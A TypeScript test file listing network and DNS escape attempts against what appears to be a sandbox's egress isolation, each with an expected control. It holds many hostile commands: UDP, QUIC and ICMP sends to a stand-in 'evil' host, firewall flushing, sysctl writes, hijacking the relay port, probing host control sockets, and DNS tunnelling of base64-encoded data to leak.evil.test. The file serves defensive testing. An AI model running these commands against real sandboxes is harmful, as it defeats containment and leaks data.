/** Around TCP: other protocols, raw packets, the namespace itself, the relay's own places, and DNS as a way out. */
import { attemptsOf } from '../attempt.ts';
import type { Seen } from '../world/events.ts';
import { places } from '../world/places.ts';

const network = attemptsOf('network');
const dns = attemptsOf('dns');

/** A program that was changed on its way here would be no proof: the tool says itself what it was allowed. */
const own = { control: 'namespace' } as const;
const outside = { control: 'machine' } as const;

const isQuery = (event: Seen): boolean =>
  event.kind === 'query' && (/leak/i.test(event.name) || event.address !== places.resolver);

export const networkAttempts = [
  network('udp-public', `python3 $T/attack.py udp ${places.evil} 9999 leak`, outside),
  network('udp-to-an-allowed-name', 'python3 $T/attack.py udp api.allowed.test 9999 leak', outside),
  network('udp-private', `python3 $T/attack.py udp ${places.private10} 9999 leak`, outside),
  network('quic-public', `python3 $T/attack.py udp ${places.evil} 443 leak`, outside),
  network('quic-to-an-allowed-name', 'python3 $T/attack.py udp api.allowed.test 443 leak', outside),
  network('icmp-raw', `python3 $T/attack.py ping raw ${places.evil}`, outside),
  network('icmp-datagram', `python3 $T/attack.py ping datagram ${places.evil}`, outside),
  network('packet-socket', 'python3 $T/attack.py packet', own),
  network('raw-socket', 'python3 $T/attack.py raw', outside),
  network('netlink-link-down', 'python3 $T/attack.py link-down', own),
  network('netlink-add-address', 'python3 $T/attack.py add-address', own),
  network('netlink-delete-route', 'python3 $T/attack.py delete-route', own),
  network('nftables-flush', 'python3 $T/attack.py flush-rules', own),
  network('ioctl-link-down', 'python3 $T/attack.py interface lo', own),
  network('sysctl-forward', 'python3 $T/attack.py write /proc/sys/net/ipv4/ip_forward 1', own),
  network(
    'sysctl-route-localnet',
    'python3 $T/attack.py write /proc/sys/net/ipv4/conf/lo/route_localnet 1',
    own,
  ),
  network('relay-port', 'python3 $T/attack.py bind tcp 127.0.0.1 65533', own),
  network('relay-port-v6', 'python3 $T/attack.py bind tcp ::1 65533', own),
  network(
    'relay-port-shared',
    'python3 $T/attack.py bind tcp 127.0.0.1 65533 SO_REUSEADDR SO_REUSEPORT',
    own,
  ),
  network(
    'relay-port-everywhere',
    'python3 $T/attack.py bind tcp 0.0.0.0 65533 SO_REUSEADDR SO_REUSEPORT',
    own,
  ),
  network('relay-port-udp', 'python3 $T/attack.py bind udp 127.0.0.1 65533 SO_REUSEADDR SO_REUSEPORT', own),
  network(
    'relay-port-udp-everywhere',
    'python3 $T/attack.py bind udp 0.0.0.0 65533 SO_REUSEADDR SO_REUSEPORT',
    own,
  ),
  network(
    'relay-spoken-to-directly',
    `python3 $T/attack.py tcp 127.0.0.1 65533 'GET /leak HTTP/1.1\\r\\nHost: ${places.evil}\\r\\n\\r\\n'`,
    {
      control: {
        none: 'nothing listens there elsewhere; what it would be told is where to go, which only the kernel can say',
      },
    },
  ),
  network('socket-of-the-egress-process', 'python3 $T/attack.py unix $RUN/egress.sock', outside),
  network('socket-of-the-egress-api', 'python3 $T/attack.py unix $RUN/egress-api.sock', outside),
  network('socket-of-the-launcher', 'python3 $T/attack.py unix $RUN/launch.sock', outside),
  network('socket-abstract-of-the-host', 'python3 $T/attack.py unix @squash-world', outside),

  dns('dns-udp-elsewhere', `python3 $T/attack.py dns udp ${places.otherResolver} leak.evil.test 1`, {
    ...outside,
    through: isQuery,
  }),
  dns('dns-tcp-elsewhere', `python3 $T/attack.py dns tcp ${places.otherResolver} leak.evil.test 1`, {
    ...outside,
    through: isQuery,
  }),
  dns('dns-udp-to-the-hosts-resolver', `python3 $T/attack.py dns udp ${places.resolver} leak.evil.test 1`, {
    ...outside,
    through: isQuery,
  }),
  dns('dns-tcp-to-the-hosts-resolver', `python3 $T/attack.py dns tcp ${places.resolver} leak.evil.test 1`, {
    ...outside,
    through: isQuery,
  }),
  dns('dns-over-tls', `python3 $T/attack.py tls ${places.otherResolver} 853 dns.evil.test leak`),
  dns('dns-over-https', `curl -ksS 'https://${places.otherResolver}/dns-query?dns=leak'`),
  dns('dns-over-https-by-name', "curl -ksS 'https://dns.evil.test/dns-query?dns=leak'"),
  dns('dns-tunnel-address', 'getent ahosts c2VjcmV0.leak.evil.test'),
  dns('dns-tunnel-text', 'python3 $T/attack.py dns udp 198.18.0.1 dGV4dA.leak.evil.test 16'),
  dns('dns-tunnel-over-tcp', 'python3 $T/attack.py dns tcp 198.18.0.1 dGNw.leak.evil.test 1'),
  dns('dns-tunnel-mail', 'python3 $T/attack.py dns udp 198.18.0.1 bWFpbA.leak.evil.test 15'),
  dns('dns-tunnel-unknown-type', 'python3 $T/attack.py dns udp 198.18.0.1 dHlwZQ.leak.evil.test 65280', {
    control: { none: 'the resolver passes on the types it knows, in an open sandbox as well' },
  }),
  dns('dns-zero-in-a-label', 'python3 $T/attack.py dns-zero 198.18.0.1 api.allowed.test leak.evil.test', {
    control: { none: 'no name of a host: it is refused in an open sandbox as well' },
  }),
  dns('dns-reverse', 'python3 $T/attack.py dns udp 198.18.0.1 6.6.6.5.in-addr.arpa 12', {
    through: (event) => event.kind === 'query' && event.name.endsWith('arpa'),
  }),
] as const;
